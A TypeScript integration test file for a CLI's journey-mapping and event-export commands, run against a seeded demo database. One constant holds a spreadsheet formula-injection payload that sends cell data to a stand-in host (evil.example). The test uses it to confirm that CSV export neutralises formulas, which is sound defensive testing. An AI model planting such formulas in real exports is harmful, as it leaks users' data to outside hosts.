/**
 * `waypoint map` and `waypoint export events` as a user runs them: real child processes on a seeded demo firm (an
 * embedded database in a temp folder, or this file's database on the PostgreSQL server). Between commands this
 * process opens the same database to add touchpoints and to compute what the output must say: the journey engine
 * directly (maps), the journey log's own reading of which touchpoints count (exports), and the audit trail.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDb } from '../../test/db.ts';
import {
  type ProcessDatabase,
  processDatabase,
  runWaypoint,
  startWaypoint,
} from '../../test/waypoint-process.ts';
import { childElements, parseXml, xesAttributes } from '../../test/xml.ts';
import { type JourneyMapView, journeyMapView } from '../contract/journeys.ts';
import type { Actor } from '../domain/roles.ts';
import { computeMap } from '../journeys/compute-map.ts';
import { mapDefinitionOf } from '../journeys/definition.ts';
import type { ServiceContext } from '../services/context.ts';
import { csvColumns } from '../services/event-log/csv.ts';
import { currentDefinition } from '../services/journey-definitions.ts';
import { loadJourneys } from '../services/journey-loader.ts';
import { logTouchpoint, voidTouchpoint } from '../services/touchpoints.ts';
import { openMigratedStore, type Store } from '../store/database.ts';
import { listFirms } from '../store/firms.ts';
import { journeyLogPage } from '../store/journey-log.ts';
import { auditEvents, candidates } from '../store/schema/index.ts';
import { listUserViews } from '../store/users.ts';

let db: ProcessDatabase;
let firmId: string;
const run = (args: string[]) => runWaypoint(db.env, args);

/** The child processes' database, opened here between commands (the embedded one admits one process at a time). */
async function withStore<T>(fn: (store: Store) => Promise<T>): Promise<T> {
  const store = await openMigratedStore({
    databaseUrl: db.env.DATABASE_URL || undefined,
    dataDir: db.dataDir,
  });
  try {
    return await fn(store);
  } finally {
    await store.close();
  }
}

/** Touchpoints that count (neither voided nor a correction), as the journey engine reads the log. */
async function countedTouchpoints(store: Store, type: 'candidate' | 'client') {
  let n = 0;
  for (let after = 0; ; ) {
    const page = await journeyLogPage(store, firmId, type, after, 100_000);
    n += page.ids.length;
    if (page.ids.length < 100_000) return n;
    after = page.ids.at(-1)!;
  }
}

const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';

beforeAll(async () => {
  db = await processDatabase();
  const seeded = await run(['seed', '--demo', '--size', 'small']);
  expect(seeded.stderr).toBe('');
  expect(seeded.code).toBe(0);
  // A note with a spreadsheet formula in it, and a call logged in error then voided (both it and its correction
  // drop out of the event log).
  await withStore(async (store) => {
    const ctx: ServiceContext = { store, clock: { now: () => new Date() } };
    const [firm] = await listFirms(store.db);
    firmId = firm!.id;
    const admin = (await listUserViews(store.db, firmId, { role: 'admin' }))[0]!;
    const actor: Actor = { userId: admin.id, firmId, branchId: admin.branchId, role: 'admin' };
    const [candidate] = await store.db
      .select()
      .from(candidates)
      .where(eq(candidates.firmId, firmId))
      .limit(1);
    const subject = { subjectType: 'candidate' as const, subjectId: candidate!.id };
    await logTouchpoint(ctx, actor, { ...subject, channel: 'note', summary: INJECTION });
    const call = await logTouchpoint(ctx, actor, { ...subject, channel: 'call', summary: 'Wrong person' });
    await voidTouchpoint(ctx, actor, call.id, 'logged on the wrong candidate');
  });
}, 120_000);
afterAll(() => db.close());

describe('waypoint map', () => {
  it('prints the population, a funnel with counts, variants, stalls and dwell times', async () => {
    const res = await run(['map', '--type', 'candidate']);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const out = res.stdout;
    expect(out).toMatch(/^Candidate journeys\n/);
    expect(out).toMatch(/^ {2}\d[\d,]* journeys, \d[\d,]* events · all time$/m);
    expect(out).toMatch(/definition v0 \(default\)/);
    for (const section of ['Funnel', 'Top variants', 'Stalled', 'Where time goes']) {
      expect(out).toContain(`\n${section}`);
    }
    expect(out).toMatch(/^ {2}1\. Registered\s+\d+\s*$/m);
    expect(out).toMatch(/^ {2}2\. Screened\s+\d+\s+\d+\.\d %$/m);
    expect(out).toMatch(/Registered → Screened/);
    expect(out).toMatch(/\d+(\.\d)? (s|min|h|d)\s+\d+(\.\d)? (s|min|h|d)\s+\d+$/m);
  });

  it('--json is the API journey map, equal to the engine computing it on the same log', async () => {
    const res = await run(['map', '--type', 'candidate', '--json', '--exact', '--top', '5']);
    expect(res.code).toBe(0);
    const json = JSON.parse(res.stdout) as JourneyMapView;
    expect(Object.keys(json).sort()).toEqual(Object.keys(journeyMapView.shape).sort());
    const view = journeyMapView.parse(json);
    expect(view.approximate).toBe(false);
    expect(view.variants.top).toHaveLength(5);

    const expected = await withStore(async (store) => {
      const loaded = await loadJourneys(store, firmId, 'candidate');
      const def = mapDefinitionOf((await currentDefinition(store.db, firmId, 'candidate')).definition);
      const query = { window: { mode: 'all' as const }, asOf: Date.parse(view.window.asOf), topVariants: 5 };
      return computeMap(loaded.log.columns(), def, query, { selection: null, percentiles: 'exact' });
    });
    expect(view.journeys).toBe(expected.journeys);
    expect(view.events).toBe(expected.events);
    expect(view.funnel).toEqual(expected.funnel);
    expect(view.variants.distinct).toBe(expected.variants.distinct);
    expect(view.variants.top.map((v) => [v.activities, v.count, v.medianDuration])).toEqual(
      expected.variants.top.map((v) => [v.activities, v.count, v.medianDuration]),
    );
    expect(view.stalled).toEqual(expected.stalled);
    expect(view.dwell).toEqual(expected.dwell);
  });

  it('narrows to a segment; resolves an owner by name; lists the candidates when a name is ambiguous', {
    timeout: 90_000,
  }, async () => {
    const all = JSON.parse((await run(['map', '--type', 'candidate', '--json'])).stdout) as JourneyMapView;
    const referral = await run(['map', '--type', 'candidate', '--source', 'referral', '--json']);
    expect(referral.code).toBe(0);
    const narrowed = JSON.parse(referral.stdout) as JourneyMapView;
    const expected = await withStore(async (store) => {
      const loaded = await loadJourneys(store, firmId, 'candidate');
      return loaded.segments.select({ source: 'referral' }, loaded.log.journeyCount)!.length;
    });
    expect(narrowed.journeys).toBe(expected);
    expect(narrowed.journeys).toBeGreaterThan(0);
    expect(narrowed.journeys).toBeLessThan(all.journeys);

    const text = await run(['map', '--type', 'candidate', '--source', 'referral']);
    expect(text.stdout).toMatch(/^Candidate journeys · source referral\n/);
    expect(text.stdout).toContain(`  ${narrowed.journeys} journeys`);

    const owner = await run(['map', '--type', 'client', '--owner', 'owen gallagher']);
    expect(owner.stderr).toBe('');
    expect(owner.stdout).toMatch(/^Client journeys · owner Owen Gallagher\n/);

    const ambiguous = await run(['map', '--type', 'candidate', '--owner', 'a']);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stdout).toBe('');
    expect(ambiguous.stderr).toMatch(/--owner "a" matches \d+ of them/);
    expect(ambiguous.stderr).toMatch(/Ava Thompson\s+[0-9a-f-]{36}/);

    const nobody = await run(['map', '--type', 'candidate', '--branch', 'Atlantis']);
    expect(nobody.code).toBe(2);
    expect(nobody.stderr).toContain('no branch matches --branch "Atlantis"');
    expect(nobody.stderr).toContain('Boston');
  });

  it('explains bad usage with exit code 2: a window needs both ends, a type, sane dates', async () => {
    const half = await run(['map', '--type', 'candidate', '--from', '2026-01-01']);
    expect(half.code).toBe(2);
    expect(half.stderr).toContain('--from: needs --to too');
    const noType = await run(['map']);
    expect(noType.code).toBe(2);
    expect(noType.stderr).toContain('--type: must be candidate or client');
    const backwards = await run(['map', '--type', 'client', '--from', '2026-06-01', '--to', '2026-01-01']);
    expect(backwards.code).toBe(2);
    expect(backwards.stderr).toContain('--to: Must be after from');
    const cohort = await run(['map', '--type', 'client', '--cohort']);
    expect(cohort.code).toBe(2);
    expect(cohort.stderr).toContain('--cohort: needs a window');
  });

  it('maps a window in event or cohort mode, labelled', async () => {
    const res = await run([
      'map',
      '--type',
      'candidate',
      '--from',
      '2026-05-01',
      '--to',
      '2026-11-01',
      '--cohort',
    ]);
    expect(res.code).toBe(0);
    expect(res.stdout).toContain('2026-05-01 to 2026-10-31 (cohort mode');
  });
});

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') field += text[++i];
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  return records;
}

describe('waypoint export events', () => {
  it('writes a CSV event log: a header and one row per counted touchpoint, sorted, formulas neutralised', async () => {
    const out = join(db.dataDir, 'events.csv');
    const res = await run(['export', 'events', '--format', 'csv', '--out', out]);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const [header, ...rows] = readCsv(readFileSync(out, 'utf8'));
    expect(header).toEqual([...csvColumns]);
    const counted = await withStore(
      async (store) =>
        (await countedTouchpoints(store, 'candidate')) + (await countedTouchpoints(store, 'client')),
    );
    expect(rows).toHaveLength(counted);
    expect(res.stdout).toContain(`Exported ${counted.toLocaleString('en-US')} events`);
    const col = (name: (typeof csvColumns)[number]) => csvColumns.indexOf(name);
    // Sorted by case type, case, then time.
    for (let i = 1; i < rows.length; i++) {
      const a = rows[i - 1]!;
      const b = rows[i]!;
      if (a[col('case_type')] !== b[col('case_type')]) continue;
      expect(a[col('case_id')]! <= b[col('case_id')]!).toBe(true);
      if (a[col('case_id')] === b[col('case_id')]) {
        expect(a[col('timestamp')]! <= b[col('timestamp')]!).toBe(true);
      }
    }
    for (const r of rows)
      expect(r[col('timestamp')]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    // The note's formula is there, as text.
    const notes = rows.filter((r) => r[col('summary')]!.includes('HYPERLINK('));
    expect(notes.map((r) => r[col('summary')])).toEqual([`'${INJECTION}`]);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The voided call and its correction are not events.
    expect(rows.some((r) => r[col('summary')]!.includes('Wrong person'))).toBe(false);
    expect(rows.some((r) => r[col('summary')]!.startsWith('Voided:'))).toBe(false);
    expect(new Set(rows.map((r) => r[col('resource')]))).toContain('Waypoint');
  });

  it('writes an XES event log to standard output: one trace per case, one event per counted touchpoint', async () => {
    const res = await run(['export', 'events', '--format', 'xes', '--type', 'client']);
    expect(res.code).toBe(0);
    expect(res.stderr).toMatch(/^Exported \d+ events of \d+ client journeys/);
    const log = parseXml(res.stdout).documentElement;
    expect(log.getAttribute('xes.version')).toBe('1.0');
    const traces = childElements(log).filter((e) => e.tagName === 'trace');
    const ids = traces.map((t) => xesAttributes(t).get('concept:name')!.value);
    expect(new Set(ids).size).toBe(ids.length);
    const { counted, clients } = await withStore(async (store) => {
      const subjects = new Set<string>();
      for (let after = 0; ; ) {
        const page = await journeyLogPage(store, firmId, 'client', after, 100_000);
        for (const s of page.subjects) subjects.add(s);
        if (page.ids.length < 100_000) break;
        after = page.ids.at(-1)!;
      }
      return { counted: await countedTouchpoints(store, 'client'), clients: subjects };
    });
    expect(new Set(ids)).toEqual(clients);
    const events = traces.flatMap((t) => childElements(t).filter((e) => e.tagName === 'event'));
    expect(events).toHaveLength(counted);
    for (const e of events) {
      const a = xesAttributes(e);
      expect(a.get('time:timestamp')!.type).toBe('date');
      expect(a.get('lifecycle:transition')!.value).toBe('complete');
      expect(a.get('org:resource')!.value).not.toBe('');
    }
  });

  it('records an audit entry for every export: the operator, what, how many, when', async () => {
    const rows = await withStore((store) =>
      store.db
        .select()
        .from(auditEvents)
        .where(and(eq(auditEvents.firmId, firmId), eq(auditEvents.action, 'event_log_exported'))),
    );
    expect(rows.length).toBeGreaterThanOrEqual(2);
    const byFormat = new Map(rows.map((r) => [r.detail.format, r]));
    const csv = byFormat.get('csv')!;
    expect(csv.userId).toBeNull();
    expect(csv.detail).toMatchObject({ via: 'cli', type: 'all', from: null, to: null, completed: true });
    expect(csv.detail.events).toBeGreaterThan(0);
    expect(byFormat.get('xes')!.detail).toMatchObject({ via: 'cli', type: 'client', completed: true });
    expect(Date.now() - csv.at.getTime()).toBeLessThan(10 * 60_000);
  });

  it('explains bad usage with exit code 2', async () => {
    const half = await run(['export', 'events', '--format', 'csv', '--to', '2026-01-01']);
    expect(half.code).toBe(2);
    expect(half.stderr).toContain('--to: needs --from too');
    const noFormat = await run(['export', 'events']);
    expect(noFormat.code).toBe(2);
    expect(noFormat.stderr).toContain('--format');
    const badType = await run(['export', 'events', '--format', 'csv', '--type', 'contact']);
    expect(badType.code).toBe(2);
    expect(badType.stderr).toContain('--type');
  });
});

// The operator socket exists only for the embedded database (a PostgreSQL server is shared by every process).
describe.skipIf(testDb() === 'postgres')('with a server holding the embedded database', () => {
  it('map is answered by the server; export says the folder is in use', async () => {
    const server = await startWaypoint(db.env);
    let served: JourneyMapView;
    try {
      const res = await run(['map', '--type', 'candidate', '--json']);
      expect(res.stderr).toBe('');
      expect(res.code).toBe(0);
      served = JSON.parse(res.stdout) as JourneyMapView;
      const ambiguous = await run(['map', '--type', 'candidate', '--owner', 'a']);
      expect(ambiguous.code).toBe(2);
      expect(ambiguous.stderr).toContain('Ava Thompson');
      const exported = await run(['export', 'events', '--format', 'csv']);
      expect(exported.code).toBe(1);
      expect(exported.stderr).toContain('is in use by another Waypoint process');
    } finally {
      await server.stop();
    }
    // The same map once the server is gone (compared after it: starting, it may record due assignment starts).
    const direct = JSON.parse((await run(['map', '--type', 'candidate', '--json'])).stdout) as JourneyMapView;
    expect([served.journeys, served.events, served.funnel, served.variants.top]).toEqual([
      direct.journeys,
      direct.events,
      direct.funnel,
      direct.variants.top,
    ]);
  }, 120_000);
});
